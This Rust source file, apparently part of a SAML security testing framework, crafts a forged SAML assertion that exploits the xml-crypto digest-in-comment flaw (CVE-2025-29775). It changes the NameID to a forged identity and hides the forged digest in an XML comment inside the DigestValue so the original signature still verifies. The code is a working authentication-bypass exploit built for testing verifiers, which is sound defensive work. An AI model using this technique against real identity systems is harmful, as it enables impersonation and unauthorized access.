//! Attacks on what a verifier reads from the SignedInfo (saml-attacks.md §1.6, §1.12):
//! the SignatureValue is checked over one canonical form of the SignedInfo, while a
//! careless library takes the DigestValue or the References from somewhere else.

use super::{Crafted, Ctx};
use crate::message::{self, Signing};
use crate::splice;
use crate::CraftError;
use trust_framework::saml::constants::NS_DSIG;

/// The text of the first `ds:DigestValue` of `xml`.
fn digest_value(xml: &str) -> Result<String, CraftError> {
    let r = splice::range(xml, NS_DSIG, "DigestValue", None)?;
    let element = &xml[r];
    let start = splice::after_start_tag(element, 0)?;
    let end = splice::before_end_tag(element)?;
    Ok(element[start..end].to_owned())
}

/// xml-crypto CVE-2025-29775 (fixture `test/static/valid_saml_with_digest_comment.xml`,
/// node-saml/xml-crypto 8ac6118): the IdP's signed assertion with its NameID changed to
/// the forged identity, and its DigestValue written `<!--D_forged-->D_signed`. Exclusive
/// c14n of the SignedInfo drops the comment, so the SignatureValue still verifies; a
/// library that reads the DigestValue's first child reads the forged assertion's digest.
/// The Response is not signed (the assertion is what is signed).
pub fn digest_in_comment(c: &Ctx<'_>) -> Result<Crafted, CraftError> {
    let k = c.knobs();
    let spec = c.spec();
    let signed = message::signed_assertion(&k, &spec)?;
    // The forged assertion's digest: the same assertion (same ID, same instants) for the
    // forged identity, digested as the IdP would have.
    let mut forged_k = k.clone();
    forged_k.name_id_raw = trust_framework::saml::xml::escape(&c.forged);
    let forged_signed = message::signed_assertion(&forged_k, &spec)?;
    let (d_signed, d_forged) = (digest_value(&signed)?, digest_value(&forged_signed)?);
    let forged = splice::set_name_id(&signed, &forged_k.name_id_raw)?;
    let r = splice::range(&forged, NS_DSIG, "DigestValue", None)?;
    let value = format!("<ds:DigestValue><!--{d_forged}-->{d_signed}</ds:DigestValue>");
    let assertion = splice::replace(&forged, r, &value);
    let xml = message::wrap(&k, Signing::Assertion, &spec, &assertion)?;
    Ok(Crafted::of(xml).claiming(&c.forged))
}
